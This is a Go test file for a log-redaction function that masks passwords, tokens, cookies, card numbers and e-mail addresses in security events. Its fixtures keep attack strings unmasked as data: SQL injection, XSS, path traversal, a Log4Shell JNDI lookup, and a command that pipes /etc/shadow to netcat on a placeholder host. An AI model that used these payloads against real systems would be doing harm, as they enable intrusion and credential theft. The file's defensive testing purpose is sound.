package events

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestMask(t *testing.T) {
	for in, want := range map[string]string{
		// attacks stay readable
		"":            "",
		"1' OR 1=1--": "1' OR 1=1--",
		"1 UNION SELECT username, password FROM users--": "1 UNION SELECT username, password FROM users--",
		"1+UNION+ALL+SELECT+1,2,password+FROM+users":     "1+UNION+ALL+SELECT+1,2,password+FROM+users",
		"UNION+ALL+SELECT+name+FROM+customers":           "UNION+ALL+SELECT+name+FROM+customers",
		"<script>alert(document.cookie)</script>":        "<script>alert(document.cookie)</script>",
		"../../../../../../../../etc/passwd":             "../../../../../../../../etc/passwd",
		"/usr/local/apache/conf/httpd.conf":              "/usr/local/apache/conf/httpd.conf",
		"${jndi:ldap://192.0.2.1:1389/Basic/Command}":    "${jndi:ldap://192.0.2.1:1389/Basic/Command}",
		"; cat /etc/shadow | nc 192.0.2.7 4444":          "; cat /etc/shadow | nc 192.0.2.7 4444",
		"admin'/**/AND/**/1=(SELECT/**/COUNT(*))":        "admin'/**/AND/**/1=(SELECT/**/COUNT(*))",
		"discard=1&keyboard=us&prototype=x":              "discard=1&keyboard=us&prototype=x",
		"店铺 basic understanding":                         "店铺 basic understanding",
		"2026-03-01 12:00:00":                            "2026-03-01 12:00:00",
		"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA":       "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
		// named fields
		"password=hunter2":                    "password=***",
		"user=li&passwd=hunter2&x=1":          "user=li&passwd=***&x=1",
		"pwd: hunter2":                        "pwd: ***",
		`{"password":"hun\"ter2","user":"a"}`: `{"password":***,"user":"a"}`,
		`{\"token\":\"abc\",\"n\":1}`:         `{\"token\":***,\"n\":1}`,
		`{'client_secret': 'abc'}`:            `{'client_secret': ***}`,
		"%22apiKey%22%3A%22abc%22":            "%22apiKey%22%3A***",
		"api_key=abc&api-key=def&apikey=ghi":  "api_key=***&api-key=***&apikey=***",
		"user[password]=abc":                  "user[password]=***",
		"password%3Dabc":                      "password%3D***",
		"Authorization: Basic YTpi x":         "Authorization: Basic *** x",
		"authorization: abc":                  "authorization: ***",
		"Cookie: a=b; c=d rest":               "Cookie: *** rest",
		"Set-Cookie: id=1; Path=/":            "Set-Cookie: ***",
		"PHPSESSION=abc":                      "PHPSESSION=***",
		"otp=123456&card_number=1&card=2":     "otp=***&card_number=***&card=***",
		"sms_otp=123456":                      "sms_otp=***",
		"password='unfinished and long":       "password=***",
		"password=x' OR '1'='1":               "password=***' OR '1'='1",
		"<password>hunter2</password>":        "<password>***</password>",
		"Bearer abc.def-123":                  "Bearer ***",
		"a basic YTpi":                        "a basic ***",
		"https://li:hunter2@db.example/x":     "https://***@db.example/x",
		// runs
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln": "***",
		"x d41d8cd98f00b204e9800998ecf8427e y":      "x *** y",
		"id=123e4567-e89b-12d3-a456-426614174000.":  "id=***.",
		"q=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEK":  "q=***",
		"q=dGhpcyBpcyBhIHNlY3JldCB2YWx1ZQ==!":       "q=***!",
		"dun_s_mzxw6ytboi2dk3lpnfrgsy3bnrwa":        "***",
		"short 0123456789abcdef0123456 stays":       "short 0123456789abcdef0123456 stays",
		// cards: test numbers of the card schemes
		"4111111111111111":                        "***",
		"pay 4111 1111 1111 1111 now":             "pay *** now",
		"5500-0000-0000-0004":                     "***",
		"378282246310005,4222222222222":           "***,***",
		"12 4111111111111111":                     "12 ***",
		"4111 1111 1111 1111 5500 0000 0000 0004": "*** ***",
		"4111111111111112":                        "4111111111111112",
		"1767225600000 ms":                        "1767225600000 ms",
		// e-mail
		"mail li.wei+x@shop.example now":   "mail l***@shop.example now",
		"a=li%40shop.example":              "a=l***%40shop.example",
		"李雷@例子.公司":                         "李***@例子.公司",
		"@handle and user@localhost stays": "@handle and user@localhost stays",
	} {
		if got := Mask(in); got != want {
			t.Errorf("Mask(%q)\n got %q\nwant %q", in, got, want)
		}
	}
}

func TestMaskByName(t *testing.T) {
	e := Event{
		Rules: []Rule{{Where: "ARGS:password", Match: "hunter2"}, {Where: "REQUEST_HEADERS:User-Agent", Match: "curl"}, {Where: "REQUEST_COOKIES:x", Match: "y"}},
		Attributes: map[string]string{
			"x-api-key": "abc", "path": "/a?token=abc", "country": "CN", "bytes": "b-abcdefghijklmnopqrstuvwx23",
			"uid": "abcdefghijklmnopqrstuvwx23", "other": "abcdefghijklmnopqrstuvwx23",
		},
	}
	if _, err := finish(&e); err != nil {
		t.Fatal(err)
	}
	for i, want := range []string{hidden, "curl", "y"} {
		if e.Rules[i].Match != want {
			t.Errorf("match of %s: %q", e.Rules[i].Where, e.Rules[i].Match)
		}
	}
	for key, want := range map[string]string{
		"x-api-key": hidden, "path": "/a?token=***", "country": "CN", "bytes": "b-abcdefghijklmnopqrstuvwx23",
		"uid": "abcdefghijklmnopqrstuvwx23", "other": hidden,
	} {
		if e.Attributes[key] != want {
			t.Errorf("%s: %q", key, e.Attributes[key])
		}
	}
}

func TestSecretAtTheCutIsStillHidden(t *testing.T) {
	e, _ := bound(Event{Rules: []Rule{{Match: strings.Repeat("é ", 60) + "0123456789abcdef4111111111111111x0123456789abcdef"}}}, noon)
	if _, err := finish(&e); err != nil || strings.Contains(e.Rules[0].Match, "0123") {
		t.Errorf("got %q, %v", e.Rules[0].Match, err)
	}
}

func TestMaskBoundsItsInput(t *testing.T) {
	if got := Mask(strings.Repeat("x y", 5000)); len(got) > maxMask {
		t.Errorf("%d bytes", len(got))
	}
}

func FuzzMask(f *testing.F) {
	for _, s := range []string{"", "password=\"", "cookie: a=b;", "{'token':\\'", "4111 1111 1111 1111", "a@b.c", "https://u:p@h", "<otp x", "\xff%40=="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Mask(s)
		// Each replacement is at most a few times longer than what it hides.
		if !utf8.ValidString(got) || len(got) > 4*maxMask {
			t.Fatalf("%d bytes, valid %v", len(got), utf8.ValidString(got))
		}
		if len(s) < maxMask/2 && strings.Contains(Mask(s+" token=canary7canary"), "canary7canary") {
			t.Fatal("what stands before a secret uncovers it")
		}
	})
}
